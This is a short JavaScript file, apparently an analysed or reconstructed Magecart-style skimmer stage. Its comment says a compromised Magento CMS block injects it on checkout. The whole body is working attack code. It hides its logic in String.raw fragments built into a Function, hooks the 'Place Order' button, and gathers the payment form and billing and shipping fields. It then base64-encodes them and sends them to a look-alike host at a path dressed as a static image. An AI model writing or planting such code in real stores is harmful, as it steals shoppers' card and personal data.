// The stage a compromised CMS block delivers inline on the payment step: its body is again a
// Function built from String.raw pieces. It waits for the card form, serialises the whole
// checkout form with FormData when the order is placed, and sends it with fetch keepalive
// to a path that looks like a Magento static asset on a look-alike host.
(function (w, d) {
  var parts = {
    a: String.raw`var f=d.querySelector("form#co-payment-form,form[data-role=checkout-payment],form.payment-method");`,
    b: String.raw`if(!f)return false;var o={};new FormData(f).forEach(function(v,k){o[k]=v});`,
    c: String.raw`["billing-address-form","shipping","co-shipping-form"].forEach(function(id){var g=d.getElementById(id);if(g){g.querySelectorAll("input,select").forEach(function(e){if(e.name&&e.value)o[e.name]=e.value})}});`,
    e: String.raw`var j=w.btoa(unescape(encodeURIComponent(JSON.stringify(o))));`,
    s: String.raw`w.fetch("https://"+"northwind-outfitters.static-media.invalid/pub/static/frontend/Magento/luma/en_US/images/loader-2.gif",{method:"POST",keepalive:true,mode:"no-cors",body:j});return true;`
  };
  var grab = new Function("w", "d", parts.a + parts.b + parts.c + parts.e + parts.s);
  var done = false;
  function hook() {
    var b = d.querySelectorAll("button.action.primary.checkout, button[title='Place Order']");
    for (var i = 0; i < b.length; i++) {
      if (b[i].__h) continue;
      b[i].__h = 1;
      b[i].addEventListener("click", function () {
        if (!done && grab(w, d)) done = true;
      }, true);
    }
  }
  if (w.location.href.indexOf("checkout") > -1) {
    new MutationObserver(hook).observe(d.documentElement, { childList: true, subtree: true });
    hook();
  }
})(window, document);
